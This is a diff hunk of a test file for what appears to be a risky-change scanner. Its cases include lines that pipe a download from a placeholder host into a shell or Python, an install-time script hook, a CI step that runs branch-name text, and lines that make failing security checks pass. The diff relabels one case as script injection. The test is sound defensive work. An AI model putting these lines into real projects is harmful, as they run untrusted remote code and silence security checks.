@@ -139,7 +139,7 @@ def test_a_risky_line_makes_its_file_high_and_its_reason_names_the_line(path: st
         ("composer.json", ['        "post-install-cmd": ["php bin/setup.php"],'], [], "adds a script that runs at install"),
         ("scripts/bootstrap.sh", ['bash -c "$(curl -fsSL https://tools.example.dev/setup)"'], [], "pipes a download into a shell"),
         ("Makefile", ["	curl -sSL https://tools.example.dev/get.py | python3 -"], [], "pipes a download into a shell"),
-        (".github/workflows/lint.yml", ['        run: ./ci/label.sh "${{ github.head_ref }}"'], [], "widens CI permissions or triggers"),
+        (".github/workflows/lint.yml", ['        run: ./ci/label.sh "${{ github.head_ref }}"'], [], "runs untrusted text in a CI step (script injection)"),
         # a check step made non-failing; packages from an index anyone on the path can answer
         (".github/workflows/security.yml", ["        continue-on-error: true"], [], "makes a failing check pass"),
         (".gitlab-ci.yml", ["    - pip-audit -r requirements.txt || true"], ["    - pip-audit -r requirements.txt"], "makes a failing check pass"),
